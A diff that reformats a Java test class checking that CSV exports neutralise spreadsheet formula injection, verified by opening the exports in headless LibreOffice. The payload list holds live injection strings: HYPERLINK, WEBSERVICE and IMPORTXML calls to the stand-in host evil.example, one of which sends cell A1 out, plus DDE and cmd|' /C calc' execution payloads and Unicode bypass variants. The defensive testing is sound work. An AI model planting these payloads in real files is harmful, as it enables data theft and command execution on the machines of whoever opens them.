@@ -37,15 +37,37 @@ class FormulasTest {
         List<String> payloads = new ArrayList<>();
         List<String> formulas =
                 List.of(
-                        "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
-                        "=cmd|' /C calc'!A0", "=WEBSERVICE(\"http://evil.example/\")", "=IMPORTXML(\"http://evil.example/\",\"//a\")",
-                        "=DDE(\"soffice\";\"x\";\"y\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=\"a\"&\"b\"");
+                        "=1+1",
+                        "+1+1",
+                        "-1+1",
+                        "@SUM(1,1)",
+                        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+                        "=cmd|' /C calc'!A0",
+                        "=WEBSERVICE(\"http://evil.example/\")",
+                        "=IMPORTXML(\"http://evil.example/\",\"//a\")",
+                        "=DDE(\"soffice\";\"x\";\"y\")",
+                        "+cmd|' /C calc'!A0",
+                        "-2+3+cmd|' /C calc'!A0",
+                        "=\"a\"&\"b\"");
         for (String before : List.of("", " ", "\t", "\r", "\n")) {
             for (String formula : formulas) {
                 payloads.add(before + formula);
             }
         }
-        payloads.addAll(List.of("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\"=1+1", "',=1+1", ";=1+1", "x\",=1+1,\"y", "x\n=1+1"));
+        payloads.addAll(
+                List.of(
+                        "＝1+1",
+                        "＋1+1",
+                        "－1+1",
+                        "＠SUM(1)",
+                        "\u00a0=1+1",
+                        "\ufeff=1+1",
+                        "\u200b=1+1",
+                        "\"=1+1",
+                        "',=1+1",
+                        ";=1+1",
+                        "x\",=1+1,\"y",
+                        "x\n=1+1"));
         return payloads;
     }
 
@@ -81,7 +103,9 @@ class FormulasTest {
                     for (var record : parser) {
                         for (String cell : record) {
                             String start = cell.strip().replaceAll("^[\\p{Z}\\p{C}]+", "");
-                            assertThat(start).as(file.getFileName().toString()).doesNotStartWith("=");
+                            assertThat(start)
+                                    .as(file.getFileName().toString())
+                                    .doesNotStartWith("=");
                             cells++;
                         }
                     }
@@ -95,7 +119,10 @@ class FormulasTest {
     @Tag("slow")
     void aSpreadsheetRunsNoneOfThem(@TempDir Path folder) throws Exception {
         Optional<Path> office =
-                Stream.of("/usr/bin/soffice", "/usr/bin/libreoffice", System.getProperty("chancery.soffice", ""))
+                Stream.of(
+                                "/usr/bin/soffice",
+                                "/usr/bin/libreoffice",
+                                System.getProperty("chancery.soffice", ""))
                         .map(Path::of)
                         .filter(Files::isExecutable)
                         .findFirst();
@@ -104,12 +131,21 @@ class FormulasTest {
                 "no LibreOffice; install libreoffice-calc-nogui, or name soffice with -Dchancery.soffice");
         Assumptions.assumeTrue(Assurance.isWhole(), "needs some 20 s; run with -Passurance");
         try (Ledger ledger = ledger()) {
-            int safe = formulas(office.get(), tables(ledger, Files.createDirectory(folder.resolve("safe")), false));
-            int raw = formulas(office.get(), tables(ledger, Files.createDirectory(folder.resolve("raw")), true));
-            assertThat(raw).as("the spreadsheet does run raw cells, so this test can fail").isPositive();
+            int safe =
+                    formulas(
+                            office.get(),
+                            tables(ledger, Files.createDirectory(folder.resolve("safe")), false));
+            int raw =
+                    formulas(
+                            office.get(),
+                            tables(ledger, Files.createDirectory(folder.resolve("raw")), true));
+            assertThat(raw)
+                    .as("the spreadsheet does run raw cells, so this test can fail")
+                    .isPositive();
             assertThat(safe).isZero();
             Assurance.note(
-                    "%d formulas in %d tables opened in LibreOffice: live (with --raw)".formatted(payloads().size(), Table.values().length),
+                    "%d formulas in %d tables opened in LibreOffice: live (with --raw)"
+                            .formatted(payloads().size(), Table.values().length),
                     "0",
                     "%d (%d)".formatted(safe, raw));
         }
@@ -123,10 +159,13 @@ class FormulasTest {
                                 office.toString(),
                                 "-env:UserInstallation=" + folder.resolve("profile").toUri(),
                                 "--headless",
-                                // comma, double quote, UTF-8, first line; "evaluate formulas" is on, as for whoever opens it so
+                                // comma, double quote, UTF-8, first line; "evaluate formulas" is
+                                // on, as for whoever opens it so
                                 "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
-                                "--convert-to", "ods",
-                                "--outdir", folder.toString()));
+                                "--convert-to",
+                                "ods",
+                                "--outdir",
+                                folder.toString()));
         tables.forEach(table -> command.add(table.toString()));
         Process child =
                 new ProcessBuilder(command)
@@ -142,7 +181,10 @@ class FormulasTest {
             for (Path sheet : files.filter(f -> f.toString().contains(".ods")).toList()) {
                 opened++;
                 try (ZipFile zip = new ZipFile(sheet.toFile())) {
-                    String content = new String(zip.getInputStream(zip.getEntry("content.xml")).readAllBytes(), UTF_8);
+                    String content =
+                            new String(
+                                    zip.getInputStream(zip.getEntry("content.xml")).readAllBytes(),
+                                    UTF_8);
                     formulas += (int) FORMULA.matcher(content).results().count();
                 }
             }
